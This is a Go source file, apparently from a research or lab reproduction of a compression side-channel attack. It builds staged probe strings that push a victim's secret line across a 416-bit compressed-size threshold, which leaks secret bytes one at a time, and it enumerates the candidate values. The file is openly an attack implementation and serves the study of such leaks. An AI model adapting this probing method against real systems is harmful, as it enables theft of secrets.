package attack

import (
	"encoding/binary"
)

// Attack strings are the attacker-chosen leading words of the victim's
// secret line. The secret superblock keeps 52 bytes of budget for the
// secret line (the other three lines are primed to 68 compressed bytes
// each), so the line survives its reload exactly when it compresses to 416
// bits or fewer. Each probe line below is tuned so that the two possible
// encodings of a secret word sit on opposite sides of that threshold.
//
// Candidate-bearing words are fully literal, so they enter the line's
// dictionary and offer the secret words a match. Filler comes in three
// kinds with fixed costs: dummy upper-half words (34 bits, upper byte zero
// so they can never match a real secret word), 0xFF byte words (10 bits,
// never inserted into the dictionary), and zero words (2 bits).

// probeThresholdBits is the largest compressed secret line that still fits
// its superblock's leftover budget.
const probeThresholdBits = 416

// shortWord is the word (0, 0, lo, hi) probing a candidate upper half.
func shortWord(s uint16) uint32 {
	return uint32(s) << 16
}

// dummyShortWord returns the i-th filler word. Its upper byte is zero, so
// it never collides with the upper half of a secret word.
func dummyShortWord(i int) uint32 {
	return shortWord(uint16(i + 1))
}

// secondByteWord is the word (0, c, lo, hi) probing the second byte of a
// secret word with a known upper half.
func secondByteWord(s uint16, c byte) uint32 {
	return uint32(c)<<8 | uint32(s)<<16
}

// lastByteWord is the word (c, b1, lo, hi) probing the low byte once the
// three upper bytes are known.
func lastByteWord(s uint16, b1, c byte) uint32 {
	return uint32(c) | uint32(b1)<<8 | uint32(s)<<16
}

const (
	byteFillerWord = uint32(0xFF) // zzzx, 10 bits, not inserted
)

// shortSlots returns how many candidate upper halves one probe line can
// carry. With w attacker words, the line holds that many 34-bit words, one
// byte filler, and three zero words, landing between 383 and 394 bits for
// 15 attacker words and between 349 and 360 for 14; either range separates
// a 22-bit match from a 34-bit literal across the threshold.
func shortSlots(attackerWords int) int {
	return attackerWords - 4
}

// makeShortProbeLine builds the stage-1 attack string. Unfilled candidate
// slots are padded with dummy upper halves.
func makeShortProbeLine(includes []uint16, attackerWords int) []byte {
	slots := shortSlots(attackerWords)
	if len(includes) < 1 || len(includes) > slots {
		panic("bad number of candidate upper halves")
	}

	words := make([]uint32, 0, attackerWords)
	for _, s := range includes {
		words = append(words, shortWord(s))
	}
	for i := len(includes); i < slots; i++ {
		words = append(words, dummyShortWord(i))
	}
	words = append(words, byteFillerWord)
	words = append(words, 0, 0, 0)

	return wordsToBytes(words, attackerWords)
}

// makeSecondByteProbeLine builds a stage-2 attack string testing one
// candidate second byte. The single candidate word costs 34 bits; with the
// dummies, two byte fillers, and two zero words the line lands between 395
// and 402 bits (15 attacker words) or 361 and 368 (14), separating the
// upper-24 match (14 bits) from the upper-16 match (22 bits).
func makeSecondByteProbeLine(short uint16, c byte, attackerWords int) []byte {
	words := make([]uint32, 0, attackerWords)
	words = append(words, secondByteWord(short, c))
	for i := 0; i < attackerWords-5; i++ {
		words = append(words, dummyShortWord(i))
	}
	words = append(words, byteFillerWord, byteFillerWord)
	words = append(words, 0, 0)

	return wordsToBytes(words, attackerWords)
}

// makeLastByteProbeLine builds a stage-3 attack string testing one
// candidate low byte. Three byte fillers and one zero word land the line
// between 403 and 410 bits (15 attacker words) or 369 and 376 (14),
// separating an exact match (6 bits) from an upper-24 match (14 bits).
func makeLastByteProbeLine(
	short uint16,
	b1, c byte,
	attackerWords int,
) []byte {
	words := make([]uint32, 0, attackerWords)
	words = append(words, lastByteWord(short, b1, c))
	for i := 0; i < attackerWords-5; i++ {
		words = append(words, dummyShortWord(i))
	}
	words = append(words, byteFillerWord, byteFillerWord, byteFillerWord)
	words = append(words, 0)

	return wordsToBytes(words, attackerWords)
}

func wordsToBytes(words []uint32, attackerWords int) []byte {
	if len(words) != attackerWords {
		panic("attack string has the wrong number of words")
	}

	line := make([]byte, attackerWords*4)
	for i, w := range words {
		binary.LittleEndian.PutUint32(line[i*4:], w)
	}

	return line
}

// shortCandidates enumerates every upper half a secret word can have.
// Secret bytes are pairwise distinct and non-zero, so both bytes are
// non-zero and differ. Descending order keeps runs reproducible.
func shortCandidates() []uint16 {
	candidates := make([]uint16, 0, 255*254)

	for hi := 0xFF; hi >= 1; hi-- {
		for lo := 0xFF; lo >= 1; lo-- {
			if lo == hi {
				continue
			}
			candidates = append(candidates, uint16(hi)<<8|uint16(lo))
		}
	}

	return candidates
}

// byteCandidates enumerates candidate byte values, descending, skipping
// values the uniqueness invariant rules out.
func byteCandidates(exclude map[byte]bool) []byte {
	candidates := make([]byte, 0, 255)

	for v := 0xFF; v >= 1; v-- {
		if !exclude[byte(v)] {
			candidates = append(candidates, byte(v))
		}
	}

	return candidates
}
